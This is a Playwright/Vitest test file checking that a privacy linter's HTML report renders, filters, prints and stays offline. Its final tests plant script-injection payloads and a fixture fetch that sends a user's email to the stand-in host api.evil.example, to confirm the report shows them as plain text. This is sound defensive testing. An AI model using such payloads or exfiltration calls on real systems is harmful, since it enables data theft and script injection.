import { existsSync, mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { chromium, type Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { demo, repoRoot, run, tempDir } from './helpers.js';

/** Debian's Chromium; CI installs it and sets PRIVLINT_REQUIRE_BROWSER so this test cannot pass by being skipped. */
const executablePath = process.env['PRIVLINT_CHROMIUM'] ?? '/usr/bin/chromium';
const available = existsSync(executablePath);
const required = process.env['PRIVLINT_REQUIRE_BROWSER'] === '1';

if (!available && !required) {
  console.warn(
    `\n⚠ ${executablePath} is missing: the HTML report's browser test is SKIPPED. Install it with \`apt-get install chromium\`.\n`,
  );
}

describe.skipIf(!available && !required)('the HTML report in a real browser', () => {
  let browser: Browser;

  beforeAll(async () => {
    browser = await chromium.launch({
      executablePath,
      args: [
        '--headless',
        '--no-sandbox',
        '--disable-gpu',
        '--disable-background-networking',
        '--disable-component-update',
        '--disable-sync',
        '--no-first-run',
      ],
    });
  });

  afterAll(async () => {
    await browser?.close();
  });

  it('renders the record, and the search and filters hide rows', async () => {
    const { stdout: html } = await run(['scan', demo, '--format', 'html']);
    const page = await browser.newPage();
    const requests: string[] = [];
    page.on('request', request => requests.push(request.url()));
    await page.setContent(html);
    expect(await page.title()).toBe('privlint: record of processing');
    expect(await page.locator('h1').textContent()).toBe('Record of processing activities');
    expect(await page.locator('#findings tbody tr').count()).toBe(9);
    const visible = async (): Promise<number> => page.locator('#findings tbody tr:not([hidden])').count();
    await page.selectOption('select[data-key="rule"]', 'require-cookie-consent');
    // Two cookies written before consent, the Meta Pixel tag that sets its own, and an event sent to Segment, which
    // the code never loads behind a consent check.
    expect(await visible()).toBe(4);
    await page.selectOption('select[data-key="rule"]', '');
    await page.fill('#search', 'Meta Pixel');
    // Shared with it, and loaded before consent.
    expect(await visible()).toBe(2);
    await page.fill('#search', '');
    await page.selectOption('select[data-key="category"]', 'health');
    expect(await visible()).toBe(2);
    expect(await page.locator('#count').textContent()).toMatch(/^\d+ of \d+ rows$/u);
    // Offline: the page asks for nothing.
    expect(requests.filter(url => !url.startsWith('about:') && !url.startsWith('data:'))).toEqual([]);
    await page.close();
  });

  it('opens with what needs attention, then the data map', async () => {
    const { stdout: html } = await run(['scan', demo, '--format', 'html']);
    const page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
    await page.setContent(html);
    const order = await page
      .locator('body > div.attention > section, body > section')
      .evaluateAll(nodes => nodes.map(node => node.id));
    expect(order.slice(0, 8)).toEqual([
      'attention',
      'attention-recipients',
      'attention-special',
      'attention-transfers',
      'attention-cookies',
      'attention-exceptions',
      'data-map',
      'controller',
    ]);
    expect(await page.locator('#attention li.open').allTextContents()).toEqual([
      '2 recipients not declared',
      '1 special category of data (Art. 9)',
      '5 recipients outside the EEA, 3 without a declared safeguard',
      '4 cookies not disclosed',
    ]);
    expect(await page.locator('#attention-recipients tbody tr td:first-child').allTextContents()).toEqual([
      'Meta Pixel',
      'OpenAI',
    ]);
    // The map: every category that flows, the sinks, the recipients; undeclared ones and Art. 9 data marked.
    const map = page.locator('#data-map svg.map');
    expect(await map.getAttribute('role')).toBe('img');
    const box = await map.boundingBox();
    expect(box!.width).toBeGreaterThan(900);
    expect(box!.height).toBeGreaterThan(200);
    const labels = await map.locator('g.node > text:not(.detail)').allTextContents();
    expect(labels).toEqual([
      'Email address',
      'Phone number',
      'Name',
      'Date of birth',
      'Health data',
      'Logs',
      'Browser storage',
      'URLs',
      'Third parties',
      'Meta Pixel',
      'OpenAI',
      'Segment',
      'SendGrid',
      'Stripe',
    ]);
    expect(await map.locator('g.node.undeclared > text:not(.detail)').allTextContents()).toEqual([
      'Meta Pixel',
      'OpenAI',
    ]);
    expect(await map.locator('g.node.special > text:not(.detail)').allTextContents()).toEqual(['Health data']);
    expect(await map.locator('path.edge.reported').count()).toBeGreaterThan(0);
    // Every label fits its box: nothing runs over into the next column.
    for (const node of await map.locator('g.node:has(text)').all()) {
      const rect = await node.locator('rect').boundingBox();
      for (const text of await node.locator('text').all()) {
        const bounds = await text.boundingBox();
        expect(bounds!.x + bounds!.width).toBeLessThanOrEqual(rect!.x + rect!.width);
      }
    }
    // The legend's marks and words never run into each other, and stay inside the map.
    const legend = await Promise.all(
      (await map.locator('g.legend > *').all()).map(async element => (await element.boundingBox())!),
    );
    expect(legend).toHaveLength(8);
    legend.forEach((a, i) => {
      expect(a.x + a.width).toBeLessThanOrEqual(box!.x + box!.width);
      for (const b of legend.slice(i + 1)) {
        const apart = a.x + a.width <= b.x || b.x + b.width <= a.x || a.y + a.height <= b.y || b.y + b.height <= a.y;
        expect(apart, `legend items overlap: ${JSON.stringify([a, b])}`).toBe(true);
      }
    });
    await page.close();
  });

  it('filters by category without emptying tables that have no categories', async () => {
    const { stdout: html } = await run(['scan', demo, '--format', 'html']);
    const page = await browser.newPage();
    await page.setContent(html);
    const visible = async (table: string): Promise<string[]> =>
      page.locator(`${table} tbody tr:not([hidden]) td:first-child`).allTextContents();
    await page.selectOption('select[data-key="category"]', 'health');
    expect(await visible('#recipients')).toEqual(['OpenAI']);
    expect(await visible('#categories')).toEqual(['health']);
    expect(await visible('#controller')).toEqual(['Acme Clinic Ltd']);
    expect(await visible('#purposes')).toHaveLength(4);
    expect(await visible('#retention')).toEqual(['Segment', 'Stripe']);
    await page.selectOption('select[data-key="category"]', 'email');
    expect(await visible('#recipients')).toEqual(['Intercom', 'Meta Pixel', 'Segment', 'SendGrid', 'Stripe']);
    await page.selectOption('select[data-key="file"]', 'src/web/app.ts');
    expect(await visible('#recipients')).toEqual(['Meta Pixel', 'Segment']);
    expect(await visible('#controller')).toEqual(['Acme Clinic Ltd']);
    await page.close();
  });

  it('prints: no controls, the map and every table on the page, light colours', async () => {
    const { stdout: html } = await run(['scan', demo, '--format', 'html']);
    const page = await browser.newPage();
    await page.emulateMedia({ media: 'print', colorScheme: 'dark' });
    await page.setContent(html);
    expect(await page.locator('nav').isVisible()).toBe(false);
    expect(await page.locator('svg.map').isVisible()).toBe(true);
    const colors = await page.evaluate(() => ({
      text: getComputedStyle(document.body).color,
      background: getComputedStyle(document.body).backgroundColor,
    }));
    expect(colors).toEqual({ text: 'rgb(0, 0, 0)', background: 'rgb(255, 255, 255)' });
    const pdf = await page.pdf({ format: 'A4' });
    expect(pdf.subarray(0, 5).toString()).toBe('%PDF-');
    await page.close();
  });

  it('fits long paths and names into the page width, on screen and in print', async () => {
    const dir = tempDir();
    const folder = path.join(dir, 'packages/authentication-and-session-management/server/lib/session-handling');
    mkdirSync(folder, { recursive: true });
    writeFileSync(
      path.join(folder, 'preferred-organisation-team-workspace-cookie-handler.ts'),
      [
        "document.cookie = 'preferred_organisation_team_workspace_identifier_for_returning_visitors=' + team + '; max-age=31536000';",
        "document.cookie = 'experiment_assignment_bucket_for_onboarding_checklist_variant_test=' + bucket;",
        'console.log(user.email);',
        '',
      ].join('\n'),
    );
    const { stdout: html } = await run(['scan', dir, '--format', 'html']);
    const page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
    await page.setContent(html);
    const overflowing = async (): Promise<string[]> =>
      page
        .locator('table')
        .evaluateAll(tables =>
          tables
            .filter(table => table.getBoundingClientRect().right > document.body.getBoundingClientRect().right + 1)
            .map(table => table.closest('section')?.id ?? '?'),
        );
    expect(await page.locator('#cookies tbody tr').count()).toBe(2);
    expect(await overflowing()).toEqual([]);
    await page.emulateMedia({ media: 'print' });
    await page.setViewportSize({ width: 800, height: 1100 });
    expect(await overflowing()).toEqual([]);
    await page.close();
  });

  it('keeps hostile names from privacy.yml as text in the data map', async () => {
    const dir = tempDir();
    writeFileSync(
      path.join(dir, 'privacy.yml'),
      `recipients:\n  evil:\n    name: '<script>alert(1)</script><foreignObject>x</foreignObject>'\n    hosts: [api.evil.example]\n    purposes: [support]\n    categories: [email]\n`,
    );
    writeFileSync(
      path.join(dir, 'a.ts'),
      "await fetch('https://api.evil.example/v1', { method: 'POST', body: JSON.stringify({ email: user.email }) });\n",
    );
    const { stdout: html } = await run(['scan', dir, '--format', 'html']);
    const page = await browser.newPage();
    let dialogs = 0;
    page.on('dialog', async dialog => {
      dialogs++;
      await dialog.dismiss();
    });
    await page.setContent(html);
    expect(dialogs).toBe(0);
    expect(await page.locator('script').count()).toBe(1);
    expect(await page.locator('foreignObject').count()).toBe(0);
    const titles = await page.locator('svg.map g.node > title').allTextContents();
    expect(titles).toContain('<script>alert(1)</script><foreignObject>x</foreignObject>: email');
    const labels = await page.locator('svg.map g.node > text:not(.detail)').allTextContents();
    // Shown as written, cut to its box.
    expect(labels.filter(label => label.startsWith('<script>alert(1)</script>') && label.endsWith('…'))).toHaveLength(
      1,
    );
    await page.close();
  });

  it('keeps hostile strings from scanned code as text', async () => {
    const { stdout: html } = await run(['scan', path.join(repoRoot, 'fixtures/cli/hostile'), '--format', 'html']);
    const page = await browser.newPage();
    let dialogs = 0;
    page.on('dialog', async dialog => {
      dialogs++;
      await dialog.dismiss();
    });
    await page.setContent(html);
    expect(await page.title()).toBe('privlint: record of processing');
    expect(dialogs).toBe(0);
    expect(await page.locator('script').count()).toBe(1);
    // The page's own data map is the one SVG; nothing from the scanned code became an element.
    expect(await page.locator('img, b, foreignObject').count()).toBe(0);
    expect(await page.locator('svg').count()).toBe(1);
    expect(await page.locator('svg.map script').count()).toBe(0);
    expect(await page.locator('#findings').textContent()).toContain('<script>document.title="pwned"</script>');
    await page.close();
  });
});
